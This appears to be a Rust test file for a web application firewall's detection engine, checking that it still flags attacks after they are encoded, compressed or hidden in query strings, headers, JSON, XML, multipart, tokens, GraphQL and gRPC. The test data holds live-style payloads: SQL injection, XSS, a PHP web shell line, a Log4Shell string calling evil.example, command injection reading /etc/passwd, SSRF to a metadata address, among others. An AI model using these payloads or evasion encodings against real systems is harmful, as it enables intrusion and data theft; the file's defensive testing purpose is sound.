//! Every spelling of an attack in every part of a request that can carry it.
//!
//! A payload of each type is encoded, sometimes twice, and put where the parsers take it apart again.

#![expect(clippy::unwrap_used, reason = "the lengths of the payloads fit their fields")]

use std::sync::LazyLock;

use bartizan_detect::{Engine, NoPolicy, inspect};
use bartizan_request::{Limits, RequestParts};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};

static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);

const ATTACKS: [(&str, &str); 17] = [
    ("sqli", "1' union select username, password from users-- "),
    ("sqli", "x' or '1'='1"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "\"><img src=x onerror=alert(1)>"),
    ("rce", "127.0.0.1; cat /etc/passwd"),
    ("rce", "<?php system($_GET['c']); ?>"),
    ("rce", "${jndi:ldap://evil.example/a}"),
    ("rce", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ptrav", "../../../../etc/passwd"),
    ("crlf", "x\r\nSet-Cookie: session=1"),
    ("nosqli", "';return true;var x='"),
    ("ldapi", "*)(uid=*))(|(uid=*"),
    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("ssi", "<!--#exec cmd=\"id\"-->"),
    ("mail_injection", "a@example.com\r\nBcc: b@example.com"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("redir", "https:\\\\evil.example/path"),
];

type Encode = fn(&str) -> Vec<u8>;

/// Text encodings, by name.
const ENCODINGS: [(&str, Encode); 26] = [
    ("as it is", |s| s.into()),
    ("percent", |s| percent(s.as_bytes()).into()),
    ("percent twice", |s| percent(percent(s.as_bytes()).as_bytes()).into()),
    ("percent in small letters", |s| percent(s.as_bytes()).to_ascii_lowercase().into()),
    ("base64", |s| STANDARD.encode(s).into()),
    ("base64 without padding", |s| STANDARD_NO_PAD.encode(s).into()),
    ("base64url", |s| URL_SAFE_NO_PAD.encode(s).into()),
    ("base64 in lines", |s| in_lines(&STANDARD.encode(s)).into()),
    ("base64 twice", |s| STANDARD.encode(STANDARD.encode(s)).into()),
    ("base64 of UTF-16", |s| STANDARD.encode(utf16(s)).into()),
    ("percent of base64", |s| percent(STANDARD.encode(s).as_bytes()).into()),
    ("base64 of percent", |s| STANDARD.encode(percent(s.as_bytes())).into()),
    ("base64 of JSON", |s| STANDARD.encode(serde_json::json!({ "a": [s] }).to_string()).into()),
    ("hexadecimal digits", |s| s.bytes().map(|b| format!("{b:02x}")).collect::<String>().into()),
    ("hexadecimal digits behind 0x", |s| {
        format!("0x{}", s.bytes().map(|b| format!("{b:02X}")).collect::<String>()).into()
    }),
    ("\\u", |s| s.encode_utf16().map(|u| format!("\\u{u:04x}")).collect::<String>().into()),
    ("\\u{}", |s| s.chars().map(|c| format!("\\u{{{:x}}}", u32::from(c))).collect::<String>().into()),
    ("\\x", |s| s.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>().into()),
    ("octal", |s| s.bytes().map(|b| format!("\\{b:03o}")).collect::<String>().into()),
    ("%u", |s| s.encode_utf16().map(|u| format!("%u{u:04x}")).collect::<String>().into()),
    ("entities", |s| s.chars().map(|c| format!("&#x{:x};", u32::from(c))).collect::<String>().into()),
    ("decimal entities", |s| s.chars().map(|c| format!("&#{:07};", u32::from(c))).collect::<String>().into()),
    ("overlong UTF-8", |s| s.bytes().flat_map(|b| [0xc0 | b >> 6, 0x80 | b & 0x3f]).collect()),
    ("full-width", |s| s.chars().map(full_width).collect::<String>().into()),
    ("UTF-16 with its mark", |s| {
        let mut out = vec![0xff, 0xfe];
        out.extend(utf16(s));
        out
    }),
    ("UTF-7", |s| utf7(s).into()),
];

fn full_width(c: char) -> char {
    let wide = |c: char| char::from_u32(u32::from(c) + 0xfee0);
    Some(c).filter(|c| ('!'..='~').contains(c)).and_then(wide).unwrap_or(c)
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf7(text: &str) -> String {
    let piece = |c: char| match c {
        'a'..='z' | 'A'..='Z' | '0'..='9' | ' ' | '\r' | '\n' => c.to_string(),
        _ => {
            let units: Vec<u8> = c.encode_utf16(&mut [0; 2]).iter().flat_map(|u| u.to_be_bytes()).collect();
            format!("+{}-", STANDARD_NO_PAD.encode(units))
        }
    };
    text.chars().map(piece).collect()
}

fn in_lines(text: &str) -> String {
    text.as_bytes()
        .chunks(16)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect::<Vec<_>>()
        .join("\r\n")
}

fn percent(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("%{b:02X}")).collect()
}

/// A request that carries a value.
#[derive(Default)]
struct Carried {
    target: String,
    headers: Vec<(&'static str, Vec<u8>)>,
    body: Vec<u8>,
}

fn with_body(kind: &str, body: impl Into<Vec<u8>>) -> Carried {
    Carried {
        target: "/v1/items".to_owned(),
        headers: vec![("Content-Type", kind.as_bytes().to_vec())],
        body: body.into(),
    }
}

type Carry = fn(&[u8]) -> Option<Carried>;

/// Places of a request, by name. `None` where no such value can stand.
const PLACES: [(&str, Carry); 20] = [
    ("query", |v| Some(Carried { target: format!("/items?a=1&q={}", percent(v)), ..Carried::default() })),
    ("name of a parameter", |v| {
        Some(Carried { target: format!("/items?{}=1", percent(v)), ..Carried::default() })
    }),
    ("path", |v| Some(Carried { target: format!("/items/{}/edit", percent(v)), ..Carried::default() })),
    ("cookie", |v| {
        let cookie = format!("a=1; pref={}", percent(v)).into_bytes();
        Some(Carried { target: "/".to_owned(), headers: vec![("Cookie", cookie)], ..Carried::default() })
    }),
    ("header", |v| {
        let fits = !v.iter().any(|b| matches!(b, b'\r' | b'\n' | 0));
        fits.then(|| Carried {
            target: "/".to_owned(),
            headers: vec![("X-Data", v.to_vec())],
            ..Carried::default()
        })
    }),
    ("form", |v| Some(with_body("application/x-www-form-urlencoded", format!("a=1&q={}", percent(v))))),
    ("JSON", |v| {
        json(v).map(|text| with_body("application/json", format!("{{\"a\":1,\"q\":[{{\"b\":{text}}}]}}")))
    }),
    ("name in JSON", |v| json(v).map(|text| with_body("application/json", format!("{{{text}:1}}")))),
    ("JSON declared as text", |v| json(v).map(|text| with_body("text/plain", format!("{{\"q\":{text}}}")))),
    ("JSON in a field of JSON", |v| {
        let inner = format!("{{\"q\":{}}}", json(v)?);
        Some(with_body("application/json", serde_json::json!({ "data": inner }).to_string()))
    }),
    ("JSON in base64 in a form", |v| {
        let inner = STANDARD.encode(format!("{{\"q\":{}}}", json(v)?));
        Some(with_body("application/x-www-form-urlencoded", format!("data={}", percent(inner.as_bytes()))))
    }),
    ("multipart field", |v| Some(multipart("name=\"q\"", v))),
    ("multipart field without quotes", |v| Some(multipart("name=q", v))),
    ("uploaded file", |v| Some(multipart("name=\"f\"; filename=\"a.txt\"", v))),
    ("element of XML", |v| xml(v).map(|text| with_body("application/xml", format!("<a><b>{text}</b></a>")))),
    ("attribute of XML", |v| xml(v).map(|text| with_body("text/xml", format!("<a><b c=\"{text}\"/></a>")))),
    ("CDATA of XML", |v| {
        let text = std::str::from_utf8(v).ok().filter(|text| is_xml(text) && !text.contains("]]>"))?;
        Some(with_body("application/xml", format!("<a><![CDATA[{text}]]></a>")))
    }),
    ("claim of a token", |v| {
        let part = |text: String| URL_SAFE_NO_PAD.encode(text);
        let token = format!(
            "Bearer {}.{}.c2ln",
            part("{\"alg\":\"HS256\"}".to_owned()),
            part(format!("{{\"sub\":{}}}", json(v)?))
        );
        Some(Carried {
            target: "/".to_owned(),
            headers: vec![("Authorization", token.into_bytes())],
            ..Carried::default()
        })
    }),
    ("variable of GraphQL", |v| {
        let body = format!(
            "{{\"query\":\"query($q: String!) {{ items(q: $q) {{ id }} }}\",\"variables\":{{\"q\":{}}}}}",
            json(v)?
        );
        Some(with_body("application/json", body))
    }),
    ("message of gRPC", |v| {
        let mut message = vec![0x08, 0x01, 0x12];
        message.extend(varint(v.len()));
        message.extend(v);
        let mut body = vec![0];
        body.extend(u32::try_from(message.len()).ok()?.to_be_bytes());
        body.extend(message);
        Some(with_body("application/grpc", body))
    }),
];

fn varint(mut n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    while n >= 0x80 {
        out.push(u8::try_from(n & 0x7f).unwrap_or(0) | 0x80);
        n >>= 7;
    }
    out.push(u8::try_from(n).unwrap_or(0));
    out
}

fn json(value: &[u8]) -> Option<String> {
    std::str::from_utf8(value).ok().map(|text| serde_json::Value::from(text).to_string())
}

fn is_xml(text: &str) -> bool {
    !text.chars().any(|c| c < ' ' && !matches!(c, '\r' | '\n' | '\t'))
}

fn xml(value: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(value).ok().filter(|text| is_xml(text))?;
    Some(
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\r', "&#13;")
            .replace('\n', "&#10;"),
    )
}

fn multipart(disposition: &str, value: &[u8]) -> Carried {
    let mut body = format!("--b\r\nContent-Disposition: form-data; {disposition}\r\n\r\n").into_bytes();
    body.extend(value);
    body.extend(b"\r\n--b--\r\n");
    with_body("multipart/form-data; boundary=b", body)
}

fn types(request: &Carried) -> Vec<&'static str> {
    let headers: Vec<(&[u8], &[u8])> =
        request.headers.iter().map(|(name, value)| (name.as_bytes(), value.as_slice())).collect();
    let parts = RequestParts {
        method: if request.body.is_empty() { "GET" } else { "POST" },
        target: request.target.as_bytes(),
        headers: &headers,
        body: &request.body,
        body_truncated: false,
    };
    let found = inspect(&ENGINE, &parts, &Limits::default(), &mut NoPolicy).detections;
    found.iter().map(|detection| detection.attack_type.code()).collect()
}

/// What is not looked for in a place: where to go next is said in arguments only, and neither scripts of databases nor
/// mail headers are written as the name of a field.
fn is_excused(code: &str, encoding: &str, place: &str) -> bool {
    match code {
        "redir" if encoding == "base64 of JSON" && place == "name of a parameter" => true,
        "redir" => matches!(place, "path" | "header" | "name in JSON" | "uploaded file" | "claim of a token"),
        "nosqli" | "mail_injection" => place == "name in JSON",
        _ => false,
    }
}

#[test]
fn every_encoding_is_undone_in_every_place() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for (code, payload) in ATTACKS {
        for (encoding, encode) in ENCODINGS {
            let value = encode(payload);
            for (place, carry) in PLACES {
                let Some(request) = carry(&value) else { continue };
                count += 1;
                let found = types(&request);
                if found.is_empty() && !is_excused(code, encoding, place) {
                    wrong.push(format!("{code} | {encoding} | {place} | {payload} | {found:?}"));
                }
            }
        }
    }
    assert!(count > 7_000, "{count} requests");
    assert!(wrong.is_empty(), "{} of {count}:\n{}", wrong.len(), wrong.join("\n"));
}

/// The codings of a body, each in its form without compression.
#[test]
fn every_coding_of_a_body_is_undone() {
    for (code, payload) in ATTACKS {
        let body = serde_json::json!({ "q": payload }).to_string().into_bytes();
        let codings: [(&str, Vec<u8>); 5] = [
            ("gzip", gzip(&body)),
            ("deflate", zlib(&body)),
            ("deflate", deflate(&body)),
            ("br", brotli(&body)),
            ("zstd", zstd(&body)),
        ];
        for (coding, coded) in codings {
            let mut request = with_body("application/json", coded.clone());
            request.headers.push(("Content-Encoding", coding.as_bytes().to_vec()));
            assert!(types(&request).contains(&code), "{payload} in {coding}");
            // A client that does not declare what it sent.
            if coding == "gzip" || coding == "zstd" {
                assert!(
                    types(&with_body("application/json", coded)).contains(&code),
                    "{payload} in bare {coding}"
                );
            }
        }
        let twice = gzip(&gzip(&body));
        let mut request = with_body("application/json", twice);
        request.headers.push(("Content-Encoding", b"gzip, gzip".to_vec()));
        assert!(types(&request).contains(&code), "{payload} in gzip twice");
    }
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).unwrap();
    let mut out = vec![1];
    out.extend(length.to_le_bytes());
    out.extend((!length).to_le_bytes());
    out.extend(data);
    out
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let (a, b) = data.iter().fold((1_u32, 0_u32), |(a, b), &byte| {
        let a = (a + u32::from(byte)) % 65_521;
        (a, (b + a) % 65_521)
    });
    let mut out = vec![0x78, 0x01];
    out.extend(deflate(data));
    out.extend((b << 16 | a).to_be_bytes());
    out
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let crc = !data.iter().fold(u32::MAX, |crc, &byte| {
        (0..8).fold(crc ^ u32::from(byte), |crc, _| crc >> 1 ^ (0xedb8_8320 * (crc & 1)))
    });
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    out.extend(deflate(data));
    out.extend(crc.to_le_bytes());
    out.extend(u32::try_from(data.len()).unwrap().to_le_bytes());
    out
}

/// A stream with one block as it is (RFC 7932, section 9.2) and the empty last one.
fn brotli(data: &[u8]) -> Vec<u8> {
    // Window of 16 bits (0), not the last block (0), four nibbles of length (00), the length, as it is (1).
    let length = u32::try_from(data.len() - 1).unwrap();
    let bits = length << 4 | 1 << 20;
    let mut out = bits.to_le_bytes().get(..3).unwrap().to_vec();
    out.extend(data);
    out.push(0x03);
    out
}

/// A frame of one block as it is (RFC 8878).
fn zstd(data: &[u8]) -> Vec<u8> {
    let length = u32::try_from(data.len()).unwrap();
    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0xa0];
    out.extend(length.to_le_bytes());
    out.extend((length << 3 | 1).to_le_bytes().get(..3).unwrap());
    out.extend(data);
    out
}
